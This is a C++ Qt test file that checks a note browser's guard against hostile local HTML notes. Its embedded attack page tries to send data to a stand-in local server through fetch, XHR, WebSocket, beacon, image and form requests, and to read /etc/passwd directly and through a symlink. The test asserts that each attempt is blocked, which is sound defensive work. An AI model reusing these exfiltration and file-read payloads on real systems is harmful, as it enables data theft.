// Notes are inert in the browser window (run under xvfb): hostile notes, opened against a
// local server started here, read no other file and send nothing out, with local scripts
// off and on, while their own pictures show and web pages keep their scripts. Also the
// guard's rules on real files and links, and the local scripts' setting.
#include "hosts/BrowserDialogs.h"
#include "hosts/LocalContentGuard.h"
#include "hosts/frmBrowser.h"
#include "platform/FileSystem.h"
#include "platform/Registry.h"
#include "settings/Options.h"
#include "support/GuiTestEnvironment.h"

#include <QHash>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTimer>
#include <QWebEngineScript>
#include <QWebEngineSettings>

namespace {

using RT = QWebEngineUrlRequestInfo;
using NT = QWebEnginePage::NavigationType;

const QByteArray Png = QByteArray::fromBase64(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC");

// A web page of the test server: its script runs, cannot read a local file, keeps storage,
// and a link with a target opens a window when clicked.
const char* WebPage = R"(<html><head><title>web</title></head><body>
<a id="pop" href="/popped" target="_blank" style="position:absolute;left:0;top:0;width:300px;height:60px">pop</a>
<script>
var r = ['scripts=on'];
try { var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send(); r.push('passwd=read'); }
catch (e) { r.push('passwd=blocked'); }
try { localStorage.setItem('k', 'v'); r.push('storage=' + localStorage.getItem('k')); } catch (e) { r.push('storage=blocked'); }
document.title = 'done ' + r.join(' ');
</script></body></html>)";

// A hostile note: without scripts it still asks the server for a picture, a style sheet and
// a frame, frames a file through a link out of its companion folder and moves itself to a
// local file; with scripts it tries every other way out, reads other files and keeps storage.
// @BASE@ is the server, @OTHER@ the other note's picture as a file address.
const char* AttackPage = R"(<html><head><title>static</title>
<meta http-equiv="refresh" content="4;url=file:///etc/passwd">
<link rel="stylesheet" href="@BASE@/css?secret=1"></head><body>
<a id="pop" href="Other.html" target="_blank" style="position:absolute;left:0;top:0;width:300px;height:60px">pop</a>
<img id="own" src="Attack.files/own.png"><img src="@BASE@/img-static?secret=1">
<iframe src="@BASE@/frame?secret=1"></iframe><iframe src="Attack.files/root/etc/passwd"></iframe>
<form id="form" action="@BASE@/form" method="get"><input name="q" value="secret"></form>
<script>
var base = '@BASE@', r = {};
function set(n, v) { r[n] = v; }
function tryit(n, f) { try { f(); } catch (e) { set(n, 'blocked'); } }
function sync(url) { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText; }
function canvasRead(n, src) {
  var i = new Image();
  i.onload = function () {
    try { var c = document.createElement('canvas'); c.width = c.height = 1; var g = c.getContext('2d');
          g.drawImage(i, 0, 0); g.getImageData(0, 0, 1, 1); c.toDataURL(); set(n, 'read'); }
    catch (e) { set(n, 'tainted'); } };
  i.onerror = function () { set(n, 'blocked'); };
  i.src = src;
}
set('websocket', 'blocked');
tryit('websocket', function () { var w = new WebSocket(base.replace('http:', 'ws:') + '/ws?secret=1');
  w.onopen = function () { set('websocket', 'open'); w.send('secret'); }; });
tryit('fetch', function () { fetch(base + '/fetch?secret=1').then(function () { set('fetch', 'sent'); },
                                                                  function () { set('fetch', 'blocked'); }); });
tryit('xhr', function () { sync(base + '/xhr?secret=1'); set('xhr', 'sent'); });
tryit('beacon', function () { navigator.sendBeacon(base + '/beacon?secret=1', 'secret'); });
tryit('events', function () { new EventSource(base + '/events?secret=1'); });
tryit('image', function () { new Image().src = base + '/img?secret=1'; });
canvasRead('canvasother', 'Other.files/cat.png');
canvasRead('canvasabs', '@OTHER@');
canvasRead('canvasown', 'Attack.files/own.png');
tryit('link', function () { set('link', 'read ' + sync('Attack.files/root/etc/passwd').length); });
tryit('own', function () { set('own', sync('Attack.files/note.txt')); });
tryit('popup', function () { set('popup', window.open('Other.html') || window.open('file:///etc/passwd') ? 'opened' : 'refused'); });
tryit('storage', function () { localStorage.setItem('secret', 'attack'); set('storage', 'kept'); });
set('idb', 'blocked');
tryit('idb', function () { indexedDB.open('secret').onsuccess = function () { set('idb', 'open'); }; });
set('cache', 'blocked');
tryit('cache', function () { caches.open('secret').then(function () { set('cache', 'open'); }); });
tryit('cookie', function () { document.cookie = 'secret=1'; set('cookie', document.cookie ? 'kept' : 'none'); });
setTimeout(function () {
  document.title = 'done ' + Object.keys(r).sort().map(function (n) { return n + '=' + r[n]; }).join(' ');
  document.getElementById('form').submit();
}, 3000);
setTimeout(function () { location.href = 'file:///'; }, 3300);
setTimeout(function () { location.href = 'file:///etc/passwd'; }, 3600);
</script></body></html>)";

// Another note: reads what the first one may have stored.
const char* ReaderPage = R"(<html><head><title>static</title></head><body><script>
var v; try { v = localStorage.getItem('secret') || 'none'; } catch (e) { v = 'blocked'; }
document.title = 'done storage=' + v + ' cookie=' + (document.cookie || 'none');
</script></body></html>)";

const QString ScriptedResult =
    "done cache=blocked canvasabs=blocked canvasother=blocked canvasown=read cookie=none fetch=blocked idb=blocked "
    "link=blocked own=mine popup=refused storage=blocked websocket=blocked xhr=blocked";

// An HTTP server on 127.0.0.1 for the test's life: it logs each request ("GET /path?query",
// "websocket /path" for an upgrade) and answers with the web page, a picture or "ok".
class TLogServer : public QObject {
public:
    TLogServer() {
        FServer.listen(QHostAddress::LocalHost);
        connect(&FServer, &QTcpServer::newConnection, this, &TLogServer::Accept);
    }
    QString Base() const { return QString("http://127.0.0.1:%1").arg(FServer.serverPort()); }
    QStringList Log;

private:
    void Accept() {
        while (QTcpSocket* socket = FServer.nextPendingConnection()) {
            socket->setParent(this);
            connect(socket, &QTcpSocket::readyRead, this, [this, socket] { Serve(socket); });
            connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
        }
    }

    void Serve(QTcpSocket* socket) {
        QByteArray& request = FRequests[socket];
        request += socket->readAll();
        if (!request.contains("\r\n\r\n")) return;
        const QList<QByteArray> line = request.left(request.indexOf("\r\n")).split(' ');
        const QByteArray target = line.value(1);
        const bool upgrade = request.toLower().contains("upgrade: websocket");
        Log << QString::fromLatin1(upgrade ? "websocket " + target : line.value(0) + " " + target);
        FRequests.remove(socket);
        QByteArray type = "text/plain", body = "ok";
        if (target.startsWith("/web.html")) type = "text/html", body = WebPage;
        if (target.startsWith("/img") || target.startsWith("/pic")) type = "image/png", body = Png;
        const QByteArray status = target.startsWith("/nocontent") ? "204 No Content" : "200 OK";
        if (status != "200 OK") body.clear();
        socket->write("HTTP/1.1 " + status + "\r\nContent-Type: " + type + "\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: " +
                      QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
        socket->disconnectFromHost();
    }

    QTcpServer FServer;
    QHash<QTcpSocket*, QByteArray> FRequests;
};

QString Fill(QString page, const QString& base, const QString& other) {
    return page.replace("@BASE@", base).replace("@OTHER@", other);
}

int OpenWindows() {
    int count = 0;
    for (QWidget* w : QApplication::topLevelWidgets())
        if (qobject_cast<TfrmBrowser*>(w) && w->isVisible()) ++count;
    return count;
}

QVariant RunInPage(QWebEnginePage* page, const QString& script) {
    QVariant result;
    bool done = false;
    page->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant& v) {
        result = v;
        done = true;
    });
    QTest::qWaitFor([&] { return done; }, 10000);
    return result;
}

void ClickTopLeft(QWebEngineView* view) {
    QWidget* target = view->focusProxy() ? view->focusProxy() : view;
    QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(30, 30));
}

}  // namespace

class TestNoteSafety : public QObject {
    Q_OBJECT
    std::string FStore;
    QString FRoot;  // the layout of the guard's tables, real files and links

    QString F(const QString& relative) const { return FRoot + relative; }
    QUrl U(const QString& relative) const { return QUrl::fromLocalFile(FRoot + relative); }

    // The hostile notes in the store's folder "Hostile"; returns the attacking note's address.
    QUrl WriteHostileNotes(const QString& base) {
        const std::string dir = FStore + "Hostile/";
        const QString other = QUrl::fromLocalFile(QString::fromStdString(dir + "Other.files/cat.png")).toString();
        GuiTestEnv::WriteFile(dir + "Attack.html", Fill(AttackPage, base, other).toStdString());
        GuiTestEnv::WriteFile(dir + "Attack.files/own.png", Png.toStdString());
        GuiTestEnv::WriteFile(dir + "Attack.files/note.txt", "mine");
        QFile::link("/", QString::fromStdString(dir + "Attack.files/root"));
        GuiTestEnv::WriteFile(dir + "Other.html", "<html><head><title>other</title></head><body>other</body></html>");
        GuiTestEnv::WriteFile(dir + "Other.files/cat.png", Png.toStdString());
        GuiTestEnv::WriteFile(dir + "Reader.html", ReaderPage);
        return QUrl::fromLocalFile(QString::fromStdString(dir + "Attack.html"));
    }

    std::unique_ptr<TfrmBrowser> ShowWindow() {
        auto window = std::make_unique<TfrmBrowser>(QString("about:blank"));
        window->show();
        if (!QTest::qWaitForWindowExposed(window.get())) qWarning("window not exposed");
        return window;
    }

    static bool Open(TfrmBrowser& window, const QUrl& url) {
        QSignalSpy spy(window.wbIE()->page(), &QWebEnginePage::loadFinished);
        window.Browser()->Navigate(url.toString());
        return spy.wait(30000) && spy.first().first().toBool();
    }

private slots:
    void initTestCase() {
        FRoot = QString::fromStdString(GuiTestEnv::MakeTempDir("guard"));
        for (const char* file : {"s/Trips/Rome.html", "s/Trips/Rome.files/a.png", "s/Trips/Rome.files/d.txt",
                                 "s/Trips/Rome.filesx/a.png", "s/Trips/snote.gif", "s/Trips/Paris.html",
                                 "s/Trips/Paris.files/a.png", "s2/a.png", "home/photo.png", "tmp/tmprep.html",
                                 "app/index.html"})
            GuiTestEnv::WriteFile(F(file).toStdString(), "x");
        QVERIFY(QFile::link("/", F("s/Trips/Rome.files/root")));
        QVERIFY(QFile::link(F("s/Trips/Paris.files"), F("s/Trips/Rome.files/next")));
        QVERIFY(QFile::link(F("home"), F("s/Trips/Linked.files")));
        GuiTestEnv::WriteFile(F("s/Trips/Linked.html").toStdString(), "x");
    }

    void init() {
        FStore = GuiTestEnv::ResetOptions();
        FileSystem::RemoveTree(DefaultRegistryFile());
        Options->Save();
    }

    void guardJudgesRequestsOnRealPaths_data() {
        QTest::addColumn<QString>("request");  // a path below the layout, or a full address
        QTest::addColumn<QString>("page");
        QTest::addColumn<int>("type");
        QTest::addColumn<bool>("scriptsOn");
        QTest::addColumn<bool>("allowed");
        const QString note = "s/Trips/Rome.html";
        const int image = RT::ResourceTypeImage, xhr = RT::ResourceTypeXhr;
        struct TRow { const char* Name; const char* Request; QString Page; int Type; bool Scripts, Allowed; };
        const TRow rows[] = {
            {"top-level navigation", "file:///etc/passwd", note, RT::ResourceTypeMainFrame, false, true},
            {"web page's own request", "https://example.org/x.js", "https://example.org/", RT::ResourceTypeScript, false, true},
            {"web page asks for a file", "s/Trips/snote.gif", "https://example.org/", image, false, false},
            {"remote script", "https://example.org/x.js", note, RT::ResourceTypeScript, false, false},
            {"remote picture", "http://127.0.0.1/img?secret", note, image, false, false},
            {"web socket", "ws://127.0.0.1/ws", note, RT::ResourceTypeWebSocket, true, false},
            {"beacon", "http://127.0.0.1/b", note, RT::ResourceTypePing, true, false},
            {"data picture", "data:image/png;base64,AAAA", note, image, true, true},
            {"companion picture", "s/Trips/Rome.files/a.png", note, image, true, true},
            {"companion read by script", "s/Trips/Rome.files/d.txt", note, xhr, true, true},
            {"missing companion file", "s/Trips/Rome.files/none.png", note, image, false, false},
            {"picture beside the page", "s/Trips/snote.gif", note, image, false, true},
            {"other note's picture", "s/Trips/Paris.files/a.png", note, image, false, true},
            {"script reads a sibling", "s/Trips/Paris.html", note, xhr, false, false},
            {"frame of a sibling", "s/Trips/Paris.html", note, RT::ResourceTypeSubFrame, false, false},
            {"picture elsewhere", "home/photo.png", note, image, false, false},
            {"climbing out", "s/Trips/Rome.files/../../../home/photo.png", note, image, false, false},
            {"companion of a longer name", "s/Trips/Rome.filesx/a.png", note, xhr, false, false},
            {"link out of the companion", "s/Trips/Rome.files/root/etc/passwd", note, xhr, false, false},
            {"link out, as a picture", "s/Trips/Rome.files/root/etc/passwd", note, image, false, false},
            {"link to another companion", "s/Trips/Rome.files/next/a.png", note, xhr, false, false},
            {"companion that is a link", "s/Trips/Linked.files/photo.png", "s/Trips/Linked.html", image, true, false},
            {"scripted: picture beside the page", "s/Trips/snote.gif", note, image, true, false},
            {"scripted: other note's picture", "s/Trips/Paris.files/a.png", note, image, true, false},
            {"scripted: picture through a link", "s/Trips/Rome.files/next/a.png", note, image, true, false},
            {"report: store picture", "s/Trips/Rome.files/a.png", "tmp/tmprep.html", image, false, true},
            {"report: note read by script", "s/Trips/Rome.html", "tmp/tmprep.html", xhr, false, false},
            {"report: picture outside the store", "home/photo.png", "tmp/tmprep.html", image, false, false},
            {"report: folder beside the store", "s2/a.png", "tmp/tmprep.html", image, false, false},
        };
        const auto address = [this](const QString& s) { return s.contains(':') ? s : U(s).toString(); };
        for (const TRow& r : rows)
            QTest::newRow(r.Name) << address(r.Request) << address(r.Page) << r.Type << r.Scripts << r.Allowed;
    }
    void guardJudgesRequestsOnRealPaths() {
        QFETCH(QString, request);
        QFETCH(QString, page);
        QFETCH(int, type);
        QFETCH(bool, scriptsOn);
        QFETCH(bool, allowed);
        QCOMPARE(TLocalContentGuard::Allows(QUrl(request), QUrl(page), RT::ResourceType(type), F("s"), scriptsOn), allowed);
    }

    void navigationsOfLocalPages_data() {
        QTest::addColumn<QString>("to");
        QTest::addColumn<QString>("from");
        QTest::addColumn<int>("type");
        QTest::addColumn<bool>("allowed");
        const QString note = U("s/Trips/Rome.html").toString(), web = "https://example.org/";
        QTest::newRow("typed file") << "file:///etc/passwd" << note << int(NT::NavigationTypeTyped) << true;
        QTest::newRow("back to a file") << "file:///etc/passwd" << note << int(NT::NavigationTypeBackForward) << true;
        QTest::newRow("reload") << note << note << int(NT::NavigationTypeReload) << true;
        QTest::newRow("note to the root") << "file:///" << note << int(NT::NavigationTypeLinkClicked) << false;
        QTest::newRow("note to a system file") << "file:///etc/passwd" << note << int(NT::NavigationTypeOther) << false;
        QTest::newRow("note to a note") << U("s/Trips/Paris.html").toString() << note << int(NT::NavigationTypeLinkClicked) << true;
        QTest::newRow("note to a folder") << U("s/Trips/").toString() << note << int(NT::NavigationTypeLinkClicked) << true;
        QTest::newRow("note through a link out") << U("s/Trips/Rome.files/root/etc/passwd").toString() << note
                                                 << int(NT::NavigationTypeLinkClicked) << false;
        QTest::newRow("listing to its parent") << "file:///" << U("s/").toString() << int(NT::NavigationTypeLinkClicked) << true;
        QTest::newRow("index to a note") << note << U("app/index.html").toString() << int(NT::NavigationTypeLinkClicked) << true;
        QTest::newRow("note to the web") << web << note << int(NT::NavigationTypeLinkClicked) << true;
        QTest::newRow("note's form") << web << note << int(NT::NavigationTypeFormSubmitted) << false;
        QTest::newRow("note's refresh") << web << note << int(NT::NavigationTypeRedirect) << false;
        QTest::newRow("web to a file") << "file:///etc/passwd" << web << int(NT::NavigationTypeLinkClicked) << false;
        QTest::newRow("web to the web") << "https://example.com/" << web << int(NT::NavigationTypeFormSubmitted) << true;
    }
    void navigationsOfLocalPages() {
        QFETCH(QString, to);
        QFETCH(QString, from);
        QFETCH(int, type);
        QFETCH(bool, allowed);
        QCOMPARE(TLocalContentGuard::AllowsNavigation(QUrl(to), QUrl(from), NT(type), {F("s/"), F("app")}), allowed);
    }

    void scriptsRunOnlyInNotesAndListings() {
        const QString store = F("s");
        QVERIFY(!TLocalContentGuard::RunsScripts(U("s/Trips/Rome.html"), false, store));
        QVERIFY(TLocalContentGuard::RunsScripts(U("s/Trips/Rome.html"), true, store));
        QVERIFY(!TLocalContentGuard::RunsScripts(U("tmp/tmprep.html"), true, store));
        QVERIFY(!TLocalContentGuard::RunsScripts(U("s/Trips/Rome.files/root/etc/passwd"), true, store));
        QVERIFY(!TLocalContentGuard::RunsScripts(U("s/Trips/none.html"), true, store));
        QVERIFY(TLocalContentGuard::RunsScripts(U("home/"), false, store));
    }

    // Every attack of a hostile note fails, with its scripts off and on; its own picture shows.
    void hostileNoteIsInert_data() {
        QTest::addColumn<bool>("localScripts");
        QTest::newRow("local scripts off") << false;
        QTest::newRow("local scripts on") << true;
    }
    void hostileNoteIsInert() {
        QFETCH(bool, localScripts);
        Options->RunLocalScripts = localScripts;
        TLogServer server;
        const QUrl attack = WriteHostileNotes(server.Base());
        auto window = ShowWindow();
        QWebEnginePage* page = window->wbIE()->page();
        QVERIFY(Open(*window, attack));
        QTest::qWait(5000);  // the attacks, the form, the script's and the refresh's navigations
        QCOMPARE(page->url(), attack);
        QCOMPARE(page->title(), localScripts ? ScriptedResult : QString("static"));
        QCOMPARE(RunInPage(page, "document.getElementById('own').naturalWidth").toInt(), 1);
        QCOMPARE(OpenWindows(), 1);
        QCOMPARE(server.Log, QStringList());

        // Nothing was kept for the next note.
        QVERIFY(Open(*window, attack.resolved(QUrl("Reader.html"))));
        QTRY_COMPARE_WITH_TIMEOUT(page->title(), localScripts ? QString("done storage=blocked cookie=none") : QString("static"),
                                  10000);

        // A click on a link with a target opens the other note in a new window.
        QVERIFY(Open(*window, attack));
        ClickTopLeft(window->wbIE());
        QTRY_COMPARE_WITH_TIMEOUT(OpenWindows(), 2, 10000);
        QCOMPARE(server.Log, QStringList());
    }

    // Web pages run their scripts and keep storage, cannot read local files, and open windows
    // on a click; a note opened from a web page gets no scripts.
    void webPagesKeepWorking() {
        TLogServer server;
        const QUrl attack = WriteHostileNotes(server.Base());
        auto window = ShowWindow();
        QWebEnginePage* page = window->wbIE()->page();
        QVERIFY(Open(*window, QUrl(server.Base() + "/web.html")));
        QTRY_COMPARE_WITH_TIMEOUT(page->title(), QString("done scripts=on passwd=blocked storage=v"), 10000);
        ClickTopLeft(window->wbIE());
        QTRY_COMPARE_WITH_TIMEOUT(OpenWindows(), 2, 10000);
        QTRY_VERIFY_WITH_TIMEOUT(server.Log.contains("GET /popped"), 10000);
        server.Log.clear();
        QVERIFY(Open(*window, attack));
        QTest::qWait(3500);
        QCOMPARE(page->title(), QString("static"));
        server.Log.removeAll("GET /favicon.ico");  // the web pages' windows ask for it late
        QCOMPARE(server.Log, QStringList());
    }

    // A navigation from a note that leaves the note in place (no content) leaves its scripts off.
    void noteKeepsScriptsOffAfterANavigationThatLeftIt() {
        TLogServer server;
        const QUrl attack = WriteHostileNotes(server.Base());
        auto window = ShowWindow();
        QWebEnginePage* page = window->wbIE()->page();
        QVERIFY(Open(*window, attack));
        window->Browser()->Navigate(server.Base() + "/nocontent");
        QTRY_VERIFY_WITH_TIMEOUT(server.Log.contains("GET /nocontent"), 10000);
        QTest::qWait(1000);
        QCOMPARE(page->url(), attack);
        QVERIFY(!page->settings()->testAttribute(QWebEngineSettings::JavascriptEnabled));
    }

    // The check box for local pages' scripts is off at first and kept in the settings; turned
    // off, it stops the scripts of the page shown at once; turned on, they wait for the next page.
    void localScriptsSettingIsKept() {
        auto window = ShowWindow();
        const QUrl note = WriteHostileNotes("http://127.0.0.1:9");
        QWebEngineSettings* settings = window->wbIE()->page()->settings();
        const auto answerOptions = [&](bool localScripts) {
            QTimer::singleShot(300, [localScripts] {
                auto* dialog = qobject_cast<TBrowserOptionsDlg*>(QApplication::activeModalWidget());
                QVERIFY(dialog);
                QVERIFY(dialog->chkScripts->isChecked());
                QCOMPARE(dialog->chkLocalScripts->isChecked(), !localScripts);
                dialog->chkLocalScripts->setChecked(localScripts);
                dialog->accept();
            });
            window->actOptionsExecute();
            TRegistry reg;
            QVERIFY(reg.OpenKeyReadOnly(TOptions::RegistryKey));
            QCOMPARE(reg.ReadBool("RunLocalScripts"), localScripts);
            QCOMPARE(Options->RunLocalScripts, localScripts);
        };
        QVERIFY(Open(*window, note));
        answerOptions(true);
        QTRY_VERIFY(!settings->testAttribute(QWebEngineSettings::JavascriptEnabled));
        QVERIFY(Open(*window, note));
        QVERIFY(settings->testAttribute(QWebEngineSettings::JavascriptEnabled));
        answerOptions(false);
        QVERIFY(!settings->testAttribute(QWebEngineSettings::JavascriptEnabled));
    }
};

QB_GUI_TEST_MAIN(TestNoteSafety)
#include "NoteSafety.moc"
